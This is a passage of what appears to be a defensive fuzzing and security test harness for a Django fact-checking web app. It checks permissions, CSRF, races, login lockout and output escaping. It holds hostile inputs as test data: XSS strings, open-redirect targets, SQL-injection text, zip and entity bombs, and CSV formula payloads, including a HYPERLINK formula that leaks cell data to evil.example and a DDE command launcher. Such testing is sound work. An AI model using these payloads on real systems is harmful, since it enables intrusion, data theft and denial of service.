        ("PATCH", f"/claims/{desk.claim}/status/"),
        ("PUT", "/api/claims/"),
        ("DELETE", f"/api/claims/{desk.claim}/"),
        ("POST", f"/api/claims/{desk.claim}/"),
        ("TRACE", "/claims/"),
    ]:
        probe.tally.tried()
        answer = editor.request(method, path, headers={"X-CSRFToken": editor.csrf})
        probe.expect_refused(editor, answer, "a method the endpoint does not take")
    # Every POST form: refused for anonymous, no role, viewer (and editor for admin-only), without a CSRF
    # token, and from a foreign origin. None of these may write a row.
    before = _table_counts()
    for template, pairs, who in post_forms(desk, probe.marker):
        path, body = desk.url(template), _fill(desk, pairs)
        refused_agents = [anonymous, norole]
        if who in ("editor", "admin"):
            refused_agents.append(viewer)
        if who == "admin":
            refused_agents.append(editor)
        for agent in refused_agents:
            probe.tally.tried()
            probe.expect_refused(agent, agent.post(path, body), f"{who} only")
        probe.tally.tried(2)
        writer = probe.agent("admin") if who == "admin" else editor
        probe.expect_refused(writer, writer.post(path, body, csrf=False), "no CSRF token")
        forged = {"Origin": "https://evil.example", "Referer": "https://evil.example/page"}
        probe.expect_refused(writer, writer.post(path, body, headers=forged), "a foreign origin")
        if who == "owner":
            probe.tally.tried()
            other = editor if "views" in template else editor2
            probe.expect_refused(other, other.post(path, body), "someone else's")
    # Another editor's upload: its progress, and Retry, are "not found".
    for path in (f"/articles/new/progress/?batch={desk.others_batch}", f"/articles/new/?batch={desk.others_batch}"):
        probe.tally.tried()
        answer = editor.get(path)
        if answer is not None and answer.status_code == 200 and "two.txt" in answer.text:
            probe.tally.add("permission_leaks", f"editor GET {path}", "another editor's file names shown")
    probe.tally.tried()
    probe.expect_refused(editor, editor.post(f"/articles/jobs/{desk.others_job}/retry/"), "another editor's job")
    after = _table_counts()
    changed = {name: after[name] - before.get(name, 0) for name in after if after[name] != before.get(name, 0)}
    for name, delta in changed.items():
        if name != "SavedView" or delta < 0:  # the viewer's own saved view is allowed
            probe.tally.add("permission_leaks", f"table {name}", f"{delta:+d} rows written by refused requests")


def phase_query(probe: Probe) -> None:
    """Every GET parameter with odd values: one at a time (the values that broke things), then all at once."""
    desk = probe.desk
    admin = probe.agent("admin")
    every = odd_values(probe.marker, probe.seed)
    core = core_values(probe.marker)
    endpoints = get_endpoints()

    def fuzz(path: str, pairs: list[tuple[str, str]], headers: dict[str, Any] | None) -> None:
        probe.tally.tried()
        query = "&".join(f"{encode(n)}={encode(v)}" for n, v in pairs)
        names = pairs[0][0] if len(pairs) == 1 else "every parameter"
        answer = admin.get(path, query, headers=headers, note=f"{names}={_note(pairs[0][1])}")
        # The API answers in JSON, errors too (gunicorn's own 414 for a request line over 4,094 bytes aside).
        api = path.startswith("/api/") and answer is not None and answer.status_code not in (414,)
        if api and not answer.headers.get("Content-Type", "").startswith("application/json"):
            probe.tally.add("silent_refusals", f"admin GET {_short(path)}", f"{answer.status_code} not JSON")

    for template, params, targets, _who in endpoints:
        path = desk.url(template)
        for name in params:
            for value in core:
                fuzz(path, [(name, value)], None)
        if not params:
            continue
        # All at once, in turn as the page and as each of its htmx partials (and once with a hostile target).
        choices = [None, *({"HX-Request": "true", "HX-Target": t} for t in targets)]
        choices.append({"HX-Request": "true", "HX-Target": payloads(probe.marker)["svg"].encode()})
        for i, value in enumerate(every):
            fuzz(path, [(name, value) for name in params], choices[i % len(choices)])
    # Ids in the path itself: zero, past bigint, negative (the URL patterns take digits only).
    for template in ("/claims/{}/", "/articles/{}/", "/speakers/{}/", "/origins/{}/", "/api/claims/{}/"):
        for value in ("0", "9223372036854775808", "99999999999999999999999", "-1", "²"):
            probe.tally.tried()
            admin.get(template.format(encode(value)))


def _version(pk: int) -> str:
    from claims_app.models import Claim

    return str(Claim.objects.get(pk=pk).version)


def _note(value: str) -> str:
    """A short, printable name for a hostile value (findings quote it)."""
    shown = repr(value)
    return shown if len(shown) <= 40 else f"{shown[:30]}…({len(value):,} chars)"


# Every POST form and what goes in its fields: (who, path, fields from the value and the claim, htmx?).
# Fields that are stored (notes, comments, tags, names, text) come back in the render phase.
FormFields = Callable[[str, int], list[tuple[str, str]]]


def hostile_forms(probe: Probe) -> list[tuple[str, str, FormFields, bool]]:
    desk = probe.desk
    mention = probe.usernames["editor2"]
    return [
        (
            "editor",
            "/claims/{c}/status/",
            lambda v, c: [("status", "disputed"), ("note", v), ("version", _version(c))],
            False,
        ),
        ("editor", "/claims/{c}/status/", lambda v, c: [("status", v), ("note", "x"), ("version", _version(c))], False),
        ("editor", "/claims/{c}/status/", lambda v, c: [("status", "verified"), ("version", v)], True),
        ("editor", "/claims/{c}/evidence/", lambda v, c: [("url", v), ("note", v)], True),
        ("editor", "/claims/{c}/comments/", lambda v, c: [("text", f"@{mention} {v} https://x.org/{v}")], False),
        ("editor", "/claims/{c}/tags/", lambda v, c: [("tag", v)], True),
        ("editor", "/claims/{c}/tags/remove/", lambda v, c: [("tag", v)], False),
        ("editor", "/claims/{c}/assign/", lambda v, c: [("assignee", v), ("note", v)], True),
        ("editor", "/claims/{c}/reject/", lambda v, c: [("note", v)], False),
        ("editor", "/claims/{c}/reject/", lambda v, c: [("note", v), ("restore", v)], True),
        (
            "editor",
            "/claims/{c}/links/",
            lambda v, c: [("to_claim", v), ("relation", "corroborates"), ("note", v)],
            False,
        ),
        ("editor", "/claims/{c}/links/", lambda v, c: [("to_claim", str(desk.other_claim)), ("relation", v)], True),
        ("editor", f"/links/{desk.link}/", lambda v, c: [("relation", v), ("claim", v)], False),
        (
            "editor",
            "/claims/{c}/suggestions/accept/",
            lambda v, c: [("candidate", v), ("relation", v), ("score", v)],
            True,
        ),
        (
            "editor",
            "/claims/{c}/suggestions/dismiss/",
            lambda v, c: [("candidate", v), ("score", v), ("relation_guess", v)],
            False,
        ),
        (
            "editor",
            "/claims/{c}/origin/",
            lambda v, c: [("action", v), ("origin", v), ("peers", v), ("medium", v), ("note", v)],
            True,
        ),
        ("editor", "/claims/{c}/origin/", lambda v, c: [("action", "new"), ("medium", v), ("note", v)], False),
        ("editor", "/claims/{c}/origin/", lambda v, c: [("action", "join"), ("origin", v), ("note", v)], False),
        ("editor", "/claims/{c}/origin/undo/", lambda v, c: [("note", v)], True),
        ("editor", "/claims/{c}/publish/", lambda v, c: [("note", v), ("version", v)], True),
        (
            "editor",
            f"/articles/{desk.article}/claims/",
            lambda v, c: [("text", v), ("start", v), ("end", v), ("speaker", v), ("kind", "direct")],
            False,
        ),
        (
            "editor",
            "/claims/bulk-status/",
            lambda v, c: [("ids", v), ("ids", str(c)), ("status", "verified"), ("note", v), (f"version-{c}", v)],
            True,
        ),
        ("editor", "/claims/bulk-assign/", lambda v, c: [("ids", v), ("assignee", v), ("next", v)], False),
        ("editor", "/claims/bulk-tag/", lambda v, c: [("ids", str(c)), ("tag", v), ("action", v), ("next", v)], True),
        ("editor", "/claims/views/", lambda v, c: [("name", v), ("query", v), ("shared", v)], False),
        ("editor", "/claims/views/", lambda v, c: [("name", f"view {v}"[:60]), ("query", f"q={encode(v)}")], True),
        ("editor", f"/notifications/{desk.notification}/read/", lambda v, c: [("next", v)], False),
        ("editor", "/notifications/read-all/", lambda v, c: [("next", v)], True),
        ("admin", f"/speakers/{desk.speaker}/merge/", lambda v, c: [("other", v), ("suggestion", v)], False),
        ("admin", f"/merge-suggestions/{desk.merge_suggestion}/dismiss/", lambda v, c: [("next", v)], False),
    ]


def phase_forms(probe: Probe) -> None:
    """The odd values in every field of every POST form, as an editor (an admin for merges); what they store
    comes back in the render phase."""
    desk = probe.desk
    editor = probe.agent("editor")
    values = [v for v in odd_values(probe.marker, probe.seed) if v not in ("", " ")]
    targets = iter(desk.targets * 50)
    forms = hostile_forms(probe)

    def post(role: str, path: str, pairs: list[tuple[str, str]], htmx: bool, value: str) -> Any:
        probe.tally.tried()
        headers = {"HX-Request": "true", "HX-Target": "x"} if htmx else None
        return probe.agent(role).post(path, pairs, headers=headers, note=_note(value))

    claim = next(targets)
    for i, value in enumerate(values):
        for role, path, fields, htmx in forms:
            post(role, path.format(c=claim), fields(value, claim), htmx and i % 2 == 1, value)
        if i % 6 == 5:
            claim = next(targets)
    # Corrections store hostile text as the claim and hostile names as speakers; the render phase shows them.
    stored = [*payloads(probe.marker).values(), '=HYPERLINK("https://evil.example/","x")', "+SUM(1)", "-1+1", "@cmd"]
    for value in stored:
        target = next(targets)
        fields = [("text", f"{value} {probe.marker}"), ("speaker", value), ("kind", "direct"), ("note", value)]
        post("editor", f"/claims/{target}/correct/", [*fields, ("version", _version(target))], False, value)
    for value in values:
        target = next(targets)
        fields = [("text", value), ("speaker", value), ("kind", value), ("note", value), ("version", value)]
        post("editor", f"/claims/{target}/correct/", fields, False, value)
    # 2,999 bulk ids: refused with a page naming the limit.
    many = [("ids", str(n)) for n in range(1, 3000)]
    answer = post("editor", "/claims/bulk-status/", [*many, ("status", "verified")], False, "2,999 ids")
    probe.expect_reason(answer, "editor POST /claims/bulk-status/ (2,999 ids)", ["fields", "1,000"])
    # Hostile `next` values: never a redirect off the site.
    for value in ("//evil.example/", "https://evil.example/", "javascript:alert(1)", "/\\evil.example", "\\\\evil"):
        target = next(targets)
        post(
            "editor",
            f"/claims/{target}/status/",
            [("status", "verified"), ("version", _version(target)), ("next", value)],
            False,
            value,
        )
    editor.get("/claims/")  # the list after all that


def _upload(probe: Probe, agent: Agent, files: list[tuple[str, bytes]], **fields: str) -> Any:
    probe.tally.tried()
    parts = [("file", (name, content, "application/octet-stream")) for name, content in files]
    return agent.post("/articles/new/", list(fields.items()), files=parts)


def _zip_bomb() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("article.txt", b"\0" * (64 * 1024 * 1024))
    return buffer.getvalue()


def phase_uploads(probe: Probe) -> None:
    """Hostile files and pasted text through the upload form (each filed in the request, as an editor would)."""
    editor = probe.agent("editor")
    marker = probe.marker
    scripts = payloads(marker)
    soup = f"""<!doctype html><html><head>
<title>=HYPERLINK("https://evil.example/?leak="&A1,"Open {marker}")</title>
<meta property="og:site_name" content="{scripts["svg"]}"><meta name="author" content="@SUM(1+1) {scripts["img"]}">
<link rel="canonical" href="javascript:alert('{marker}')"><base href="https://evil.example/">
<script>alert('{marker}')</script><style>body{{background:url(javascript:alert(1))}}</style></head>
<body onload="alert('{marker}')"><article><h1>=HYPERLINK("https://evil.example/","Harbour deal")</h1>
<p>The harbour board met on Friday.<!-- <script>alert('{marker}')</script> --> <b>Unclosed <i>tags <table><tr><td>cell
<p>"=HYPERLINK(""https://evil.example/"",""click"")" said Dana Whitlock, the harbour master, on Friday.</p>
<p>"{scripts["script"]} is our plan for the ferry," said Mayor Ilsa {scripts["img"]} Varga at a press conference.</p>
<p>"+cmd|' /C calc'!A0 will not be built," said @Ann Vale, the council's engineer, on Tuesday.</p>
<p>"-2+3 is the budget gap," Tom {scripts["attribute"]} Hale told reporters.</p>
<p><a href="javascript:alert('{marker}')">link</a> <img src=x onerror="alert('{marker}')">
<svg><script>alert('{marker}')</script></svg></p>
<p>Critics said the deal would raise prices. {scripts["breakout"]}</p></article></body></html>"""
    plain = (
        f"Harbour report {marker}\n\n"
        f'"{scripts["breakout"]} will open in April," said Ilse {scripts["textarea"]} Marsh, the port director.\n\n'
        f'"=1+1 is the answer," the minister said on Monday.\n'
    )
    nul_text = 'Council vote\x00 today\n\n"The vote passed," said Ada\x00 Lind, the chair.'
    cases: list[tuple[str, list[tuple[str, bytes]], dict[str, str]]] = [
        ("html soup", [(f"{scripts['img']}.html", soup.encode())], {}),
        (
            "plain text",
            [("report.txt", plain.encode())],
            {"outlet": scripts["svg"], "title": f'=HYPERLINK("x") {marker}'},
        ),
        (
            "duplicate",
            [("report-again.txt", plain.encode())],
            {"outlet": scripts["svg"], "title": f'=HYPERLINK("x") {marker}'},
        ),
        (
            "binary",
            [("image.png", b"\x89PNG\r\n\x1a\n" + bytes(random.Random(1).randrange(256) for _ in range(4096)))],
            {},
        ),
        ("empty", [("empty.txt", b"")], {}),
        ("utf-16 no BOM", [("u16.txt", plain.encode("utf-16-le"))], {}),
        ("utf-16 BOM", [("u16bom.txt", plain.encode("utf-16"))], {}),
        (
            "latin-1",
            [("latin.txt", 'Café owners said "déjà vu" at the caisse, said Zoé Lenoir.'.encode("latin-1"))],
            {},
        ),
        ("cp1252", [("cp.txt", "“It’s done,” said Jürgen Maas, the mayor — again.".encode("cp1252"))], {}),
        ("shift-jis", [("sjis.txt", "「港は来年開く」と市長は述べた。".encode("shift_jis"))], {}),
        ("broken utf-8", [("broken.txt", b"Council \xff\xfe\xc3 said \xe2\x80 the mayor \xed\xa0\x80.")], {}),
        ("NUL in text", [("nul.txt", nul_text.encode())], {}),
        ("zip bomb", [("article.zip", _zip_bomb())], {}),
        ("zip named html", [("article.html", _zip_bomb())], {}),
        ("gzip bomb", [("article.html.gz", gzip.compress(b"<p>" + b"a" * (32 * 1024 * 1024)))], {}),
        ("deep nesting", [("deep.html", b"<div>" * 200_000 + b'<p>"Deep," said Ann Deep.</p>')], {}),
        (
            "entity bomb",
            [
                (
                    "laughs.html",
                    (
                        b'<!DOCTYPE html [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">'
                        b'<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">]>'
                        b'<html><body><p>&d;&d;&d;&d;&d;&d;&d;&d;&d;&d; "Fine," said Ann Laugh.</p></body></html>'
                    ),
                )
            ],
            {},
        ),
        (
            "markdown",
            [
                (
                    "notes.md",
                    f"# {scripts['script']}\n\n[x](javascript:alert('{marker}'))\n\n\"Yes,\" said Bo Lund.\n".encode(),
                )
            ],
            {},
        ),
        ("title over 600", [("t.txt", b'"Long," said Ann Title.')], {"title": "T" * 700}),
        ("NUL in title", [("t2.txt", b'"Nul," said Ann Nul.')], {"title": "a\x00b"}),
        ("bad URL", [("t3.txt", b'"Url," said Ann Url.')], {"url": f"javascript:alert('{marker}')"}),
        ("surrogate outlet", [("t4.txt", b'"Sur," said Ann Sur.')], {"outlet": "\ud800"}),
        ("two files and a title", [("a.txt", b"a"), ("b.txt", b"b")], {"title": "x"}),
        (
            "hostile batch names",
            [
                (scripts["script"] + ".txt", plain.encode() + b"\n\nFiled in a batch."),
                ("=cmd|' /C calc'!A0.html", soup.replace("</article>", "<p>Filed in a batch.</p></article>").encode()),
            ],
            {},
        ),
    ]
    for name, files, fields in cases:
        answer = _upload(probe, editor, files, **fields)
        if (
            answer is not None
            and answer.status_code == 200
            and name
            in ("binary", "empty", "zip bomb", "title over 600", "NUL in title", "bad URL", "two files and a title")
        ):
            probe.expect_reason(answer, f"upload {name}", ['class="errorlist', 'class="error', 'role="alert"'])
    # Pasted text: hostile, and over the size limit; a huge field.
    for text in (plain, scripts["script"] * 3, "x" * 20_000_000):
        probe.tally.tried()
        answer = editor.post("/articles/new/", [("text", text), ("title", scripts["img"]), ("outlet", "=1+2")])
        if len(text) > 1_000_000:
            probe.expect_reason(answer, "upload 20 MB paste", ["MB"])
    # 101 files, and a file name of 1,000 characters: a page naming the limit.
    answer = _upload(probe, editor, [(f"f{n}.txt", b"x") for n in range(101)])
    probe.expect_reason(answer, "upload 101 files", ["100 files", "Too many files"])
    answer = _upload(probe, editor, [("n" * 1000 + ".txt", b'"x," said Ann N.')])
    probe.expect_reason(answer, "upload 1,000-character file name", ["file name was too long"])
    # The ingest worker files the queued batches and embeds and traces every new article, as in production
    # (bounded: `--batch` runs what is queued, then exits). A task that fails is the background's 5xx.
    if probe.run_worker:
        run = subprocess.run(
            [*MANAGE, "ingest_worker", "--batch"],
            cwd=ROOT,
            capture_output=True,
            text=True,
            env={**os.environ, "CLAIMS_LOG_LEVEL": "INFO"},
            timeout=600,
            check=False,
        )
        tasks = re.findall(r"path=(\S+) state=(SUCCESSFUL|FAILED)", run.stdout + run.stderr)
        probe.tally.saw("background tasks run by the ingest worker", len(tasks))
        for task, state in tasks:
            if state == "FAILED":
                probe.tally.add("server_errors", f"ingest worker {task}", "task failed (see the worker's log)")
        if run.returncode != 0:
            probe.tally.add("server_errors", "ingest worker", f"exit {run.returncode}: {run.stderr.strip()[-200:]}")
    # The progress page of the hostile batch shows its file names (escaped).
    from claims_app.models import IngestJob

    for batch in (
        IngestJob.objects.filter(uploaded_by__username=probe.usernames["editor"])
        .values_list("batch", flat=True)
        .distinct()
    ):
        editor.get("/articles/new/progress/", f"batch={batch}", headers={"HX-Request": "true", "HX-Target": "progress"})
        editor.get("/articles/new/", f"batch={batch}")


def phase_updates(probe: Probe) -> None:
    """Stale and missing versions, and a race: the database must keep the first verdict and refuse the rest."""
    from claims_app.models import Claim, ClaimStatusChange

    desk = probe.desk
    a, b = probe.agent("editor"), probe.agent("editor2")
    claims = iter(
        list(
            Claim.objects.exclude(pk__in=[desk.claim, desk.other_claim, *desk.targets])
            .order_by("pk")
            .values_list("pk", flat=True)[:40]
        )
    )

    def seen_version(agent: Agent, pk: int) -> str:
        page = agent.get(f"/claims/{pk}/")
        match = re.search(r'name="version" value="(\d+)"', page.text if page is not None else "")
        return match.group(1) if match else "0"

    def lost(where: str, detail: str) -> None:
        probe.tally.add("lost_updates", where, detail)

    # Every write carries a note or text unique to this run, so what the database kept is read from history
    # rows, whatever state an earlier run (or `--url`'s live data) left the claims in.
    def saved(pk: int, note: str) -> bool:
        return ClaimStatusChange.objects.filter(claim_id=pk, note=note).exists()

    def first_write(pk: int, note: str, version: str, headers: dict[str, str] | None = None) -> bool:
        a.post(f"/claims/{pk}/status/", [("status", "false"), ("note", note), ("version", version)], headers=headers)
        if not saved(pk, note):
            probe.tally.add("silent_refusals", f"status #{pk}", "a change from the current version was not saved")
            return False
        return True

    marker = probe.marker
    # Single status change: B saw the same version as A, A saved first.
    for variant, target in (("page", None), ("htmx row", "claim-{pk}"), ("htmx panel", "status-panel")):
        pk = next(claims)
        va, vb = seen_version(a, pk), seen_version(b, pk)
        headers = {"HX-Request": "true", "HX-Target": target.format(pk=pk)} if target else None
        probe.tally.tried()
        if first_write(pk, f"A {marker} {variant}", va, headers):
            stale = f"B {marker} {variant}"
            b.post(f"/claims/{pk}/status/", [("status", "verified"), ("note", stale), ("version", vb)], headers=headers)
            if saved(pk, stale):
                lost(f"status ({variant}) #{pk}", "a stale version overwrote a newer verdict")
    # Without a version, and with odd ones.
    for version in (None, "999999", "0", "²"):
        pk = next(claims)
        probe.tally.tried()
        if first_write(pk, f"A {marker} {version!r}", seen_version(a, pk)):
            blind = f"B {marker} {version!r}"
            body = [("status", "verified"), ("note", blind)] + ([("version", version)] if version is not None else [])
            b.post(f"/claims/{pk}/status/", body)
            if saved(pk, blind):
                lost(f"status with version={version!r} #{pk}", "overwrote a newer verdict")
    # Bulk: two rows stale, one fresh; then rows without versions.
    rows = [next(claims) for _ in range(3)]
    seen = {pk: seen_version(b, pk) for pk in rows}
    ready = all([first_write(pk, f"A {marker} before bulk", seen_version(a, pk)) for pk in rows[:2]])
    probe.tally.tried()
    bulk = f"B {marker} bulk"
    ids = [("ids", str(pk)) for pk in rows]
    # A bulk change leaves claims already at its status alone (no history row): pick one the fresh row is not at.
    current = Claim.objects.get(pk=rows[2]).status
    status = next(option for option in ("verified", "disputed", "unverified") if option != current)
    b.post(
        "/claims/bulk-status/",
        [*ids, *((f"version-{pk}", seen[pk]) for pk in rows), ("status", status), ("note", bulk)],
    )
    for pk in rows[:2]:
        if ready and saved(pk, bulk):
            lost(f"bulk status #{pk}", "a stale row overwrote a newer verdict")
    if not saved(rows[2], bulk):
        probe.tally.add("silent_refusals", f"bulk status #{rows[2]}", "a fresh row of a bulk change was not applied")
    rows = [next(claims) for _ in range(2)]
    ready = all([first_write(pk, f"A {marker} before blind bulk", seen_version(a, pk)) for pk in rows])
    probe.tally.tried()
    blind_bulk = f"B {marker} blind bulk"
    b.post("/claims/bulk-status/", [*(("ids", str(pk)) for pk in rows), ("status", "verified"), ("note", blind_bulk)])
    for pk in rows:
        if ready and saved(pk, blind_bulk):
            lost(f"bulk status without versions #{pk}", "overwrote a newer verdict")
    # Corrections: stale, and without a version.
    for version in ("stale", None):
        pk = next(claims)
        vb = seen_version(b, pk)
        first, blind = f"A's corrected wording ({marker}, {version}).", f"B's wording, written blind ({marker})."
        a.post(f"/claims/{pk}/correct/", [("text", first), ("kind", "direct"), ("version", seen_version(a, pk))])
        probe.tally.tried()
        if Claim.objects.get(pk=pk).text != first:
            probe.tally.add(
                "silent_refusals", f"correction #{pk}", "a correction from the current version was not saved"
            )
            continue
        body = [("text", blind), ("kind", "direct")] + ([("version", vb)] if version else [])
        b.post(f"/claims/{pk}/correct/", body)
        if Claim.objects.get(pk=pk).text != first:
            lost(f"correction ({'stale version' if version else 'no version'}) #{pk}", "overwrote a newer correction")
    # A race: eight browsers (the two editors, four sessions each) send a change at once, all with the version
    # they saw; exactly one may be saved.
    racers = []
    for n in range(8):
        role = ("editor", "editor2")[n % 2]
        racer = Agent(probe, f"{role}-racer{n}", probe.usernames[role], probe.passwords[role])
        racer.login()
        racers.append(racer)
    for round_ in range(3):
        pk = next(claims)
        version = seen_version(a, pk)
        started = ClaimStatusChange.objects.filter(claim_id=pk).count()

        def change(n: int, pk: int = pk, version: str = version) -> Any:
            status = ["false", "verified", "disputed", "unverified"][n % 4]
            return racers[n].post(
                f"/claims/{pk}/status/", [("status", status), ("note", f"racer {n}"), ("version", version)]
            )

        probe.tally.tried(8)
        with ThreadPoolExecutor(8) as pool:
            list(pool.map(change, range(8)))
        written = ClaimStatusChange.objects.filter(claim_id=pk).count() - started
        for n in range(1, written):  # every change after the first overwrote one saved from the same version
            lost(f"race round {round_} #{pk}", f"change {n + 1} of {written} saved from version {version}")


def phase_brute(probe: Probe) -> None:
    """Wrong passwords past the lockout then the right one; wrong and malformed API tokens."""
    brute = Agent(probe, "attacker", probe.usernames["brute"], probe.passwords["brute"])
    brute.get("/login/")
    for n in range(8):
        probe.tally.tried()
        answer = brute.post("/login/", [("username", brute.username), ("password", f"wrong-{n}")])
        if answer is not None and answer.status_code == 302 and "login" not in answer.headers.get("Location", ""):
            probe.tally.add("permission_leaks", "login", f"wrong password {n} logged in")
    probe.tally.tried()
    answer = brute.post("/login/", [("username", brute.username), ("password", brute.password)])
    if answer is not None and answer.status_code == 302 and "login" not in answer.headers.get("Location", ""):
        probe.tally.add("permission_leaks", "login", "the right password logged in during the lockout")
    elif answer is not None:
        probe.expect_reason(answer, "login lockout", ["locked", "too many"])
    # Where a login goes next: never off the site, whatever `next` says.
    for n, target in enumerate(("https://evil.example/", "//evil.example/", "/\\evil.example", "javascript:alert(1)")):
        probe.tally.tried()
        visitor = Agent(probe, f"viewer-login{n}", probe.usernames["viewer"], probe.passwords["viewer"])
        visitor.get("/login/", f"next={encode(target)}")
        pairs = [("username", visitor.username), ("password", visitor.password), ("next", target)]
        visitor.post("/login/", pairs, note=f"next={target!r}")
    # Odd usernames and passwords: never a 500.
    for value in ("\x00", "\ud800", "A" * 10_000, "' OR '1'='1", "²"):
        probe.tally.tried()
        brute.post("/login/", [("username", value), ("password", value)])
    # API tokens: never a 200 for a wrong one; throttled after the limit (per gunicorn worker).
    wrong_answers = []
    for n in range(16):
        probe.tally.tried()
        answer = brute.request(
            "GET", "/api/claims/", headers={"Authorization": f"Bearer wrong-{n}-{secrets.token_urlsafe(8)}"}
        )
        if answer is not None:
            wrong_answers.append(answer.status_code)
            if answer.status_code == 200:
                probe.tally.add("permission_leaks", "api token", f"wrong token {n} read claims")
    if 429 not in wrong_answers:
        probe.tally.add(
            "permission_leaks", "api token", f"16 wrong tokens and no throttle: {sorted(set(wrong_answers))}"
        )
    for value in ("²", "x" * 5000, "é", "Bearer", ""):
        probe.tally.tried()
        answer = brute.request("GET", "/api/claims/", headers={"Authorization": f"Bearer {value}".encode()})
        if answer is not None and answer.status_code == 200:
            probe.tally.add("permission_leaks", "api token", f"malformed token {value[:10]!r} read claims")
    probe.tally.tried()
    answer = brute.request("GET", "/api/claims/", headers={"Authorization": f"Token {probe.tokens['viewer']}"})
    if answer is not None and answer.status_code == 200:
        probe.tally.add("permission_leaks", "api token", "a token in the wrong scheme was accepted")


def phase_render(probe: Probe) -> None:
    """Every page, partial and export again, as the admin, a viewer and (public pages) anonymous, now that
    hostile text is stored: titles, outlets, speakers, claims, notes, comments, tags, views, file names."""
    from django.db.models import Q

    from claims_app.models import Article, Claim, IngestJob, Speaker, StatementOrigin
    from claims_app.review.claim_page import PANEL_TARGETS

    desk = probe.desk
    admin, viewer, editor, editor2 = (probe.agent(r) for r in ("admin", "viewer", "editor", "editor2"))
    anonymous = Agent(probe, "anonymous")
    # A fact-check with hostile text: status note, evidence and claim text, published.
    target = desk.targets[-1]
    scripts = payloads(probe.marker)
    editor.post(
        f"/claims/{target}/evidence/",
        [("url", f"https://example.org/?q={scripts['script']}"), ("note", scripts["img"])],
    )
    editor.post(
        f"/claims/{target}/status/", [("status", "false"), ("note", scripts["breakout"]), ("version", _version(target))]
    )
    editor.post(f"/claims/{target}/publish/", [("version", _version(target))])
    marked = (
        Q(text__contains=probe.marker)
        | Q(speaker__name__contains=probe.marker)
        | Q(article__title__contains=probe.marker)
        | Q(article__outlet__contains=probe.marker)
    )
    hostile_claims = list(
        Claim.objects.filter(marked | Q(pk__in=desk.targets)).order_by("pk").values_list("pk", flat=True)[:30]
    )
    articles = list(
        Article.objects.filter(
            Q(title__contains=probe.marker)
            | Q(outlet__contains=probe.marker)
            | Q(body__contains=probe.marker)
            | Q(author__contains=probe.marker)
        ).values_list("pk", flat=True)[:20]
    )
    speakers = list(Speaker.objects.filter(name__contains=probe.marker).values_list("pk", flat=True)[:20])
    origins = list(StatementOrigin.objects.values_list("pk", flat=True)[:10])
    pages = [
        "/",
        "/claims/",
        f"/claims/?q={encode(probe.marker)}",
        "/claims/?rejected=include&sort=oldest",
        "/claims/?status=false",
        "/claims/precision/",
        "/claims/views/",
        "/claims/views/nav/",
        "/articles/",
        "/speakers/",
        f"/speakers/?q={encode(probe.marker)}",
        "/notifications/",
        "/notifications/count/",
        "/api/docs/",
    ]
    pages += [f"/claims/{pk}/" for pk in hostile_claims]
    pages += [f"/articles/{pk}/" for pk in articles]
    pages += [f"/claims/?article={pk}" for pk in articles]
    pages += [f"/speakers/{pk}/" for pk in speakers]
    pages += [f"/origins/{pk}/" for pk in origins]
    for agent in (admin, viewer):
        for page in pages:
            agent.get(page)
    for agent in (editor, editor2):
        agent.get("/notifications/")
        agent.get("/claims/views/")
        agent.get("/claims/views/nav/", headers={"HX-Request": "true"})
    for pk in hostile_claims[:8]:
        for target in PANEL_TARGETS:
            admin.get(
                f"/claims/{pk}/", f"link_q={encode(probe.marker)}", headers={"HX-Request": "true", "HX-Target": target}
            )
    for pk in speakers[:3]:
        admin.get(f"/speakers/{desk.speaker}/merge/", f"other={pk}")
    for batch in IngestJob.objects.values_list("batch", flat=True).distinct():
        admin.get("/articles/new/progress/", f"batch={batch}", headers={"HX-Request": "true", "HX-Target": "progress"})
    # Public pages: anonymous, and their JSON-LD.
    for page in ("/fact-checks/", "/fact-checks/feed/", f"/fact-checks/{target}/", f"/fact-checks/{desk.fact_check}/"):
        answer = anonymous.get(page)
        if answer is not None and "html" in answer.headers.get("Content-Type", ""):
            for block in jsonld_blocks(answer.text):
                if probe.marker in block:
                    probe.tally.saw("JSON-LD documents carrying the marker")
                if jsonld_unescaped(block):
                    probe.tally.add("jsonld_unescaped", f"anonymous GET {page}", f"{jsonld_unescaped(block)} raw < > &")
    # Exports: formula cells in the CSV, raw < > & in the JSON-LD.
    for query in ("", "rejected=include", f"q={encode(probe.marker)}"):
        for agent in (admin, viewer):
            answer = agent.get("/claims/export.csv", query)
            if answer is not None and answer.status_code == 200:
                for cell in formula_cells(answer.text):
                    probe.tally.add("formula_cells", f"{agent.name} GET /claims/export.csv?{query}", repr(cell[:80]))
                rows = csv.reader(io.StringIO(answer.text))
                neutralised = sum(1 for row in rows for c in row if c[:1] == "'" and c[1:2] in FORMULA_STARTS)
                probe.tally.saw("CSV cells starting like a formula, made inert", neutralised)
            answer = agent.get("/claims/export.jsonld", query)
            if answer is not None and probe.marker in answer.text:
                probe.tally.saw("JSON-LD documents carrying the marker")
            if answer is not None and answer.status_code == 200 and jsonld_unescaped(answer.text):
                probe.tally.add(
                    "jsonld_unescaped",
                    f"{agent.name} GET /claims/export.jsonld?{query}",
                    f"{jsonld_unescaped(answer.text)} raw",
                )
            agent.get("/claims/export.json", query)
            agent.get("/api/claims/", f"{query}&page_size=200")


# ---------------------------------------------------------------- running it

PHASES: list[tuple[str, Callable[[Probe], None]]] = [
    ("access", phase_access),
    ("query", phase_query),
    ("forms", phase_forms),
    ("uploads", phase_uploads),
    ("updates", phase_updates),
    ("brute", phase_brute),
    ("render", phase_render),
]


def summary(probe: Probe, seconds: float, server: str) -> dict[str, Any]:
    tally = probe.tally
    phases = [name for name, _ in PHASES]
    rows = {
        name: {
            "inputs": tally.inputs[name],
            "requests": tally.requests[name],
            **{category: tally.count(category, name) for category in CATEGORIES},
        }
        for name in ["setup", *phases]
    }
    totals = {
        "inputs": sum(tally.inputs.values()),
        "requests": sum(tally.requests.values()),
        **{category: tally.count(category) for category in CATEGORIES},
    }
    return {
        "server": server,
        "marker": probe.marker,
        "seed": probe.seed,
        "seconds": round(seconds, 1),
        "phases": rows,
        "totals": totals,
        "evidence": dict(tally.evidence),
        "findings": [vars(f) for f in tally.findings],
    }


def print_table(result: dict[str, Any]) -> None:
    columns = [("inputs", "inputs"), ("requests", "requests"), *TABLE_COLUMNS]
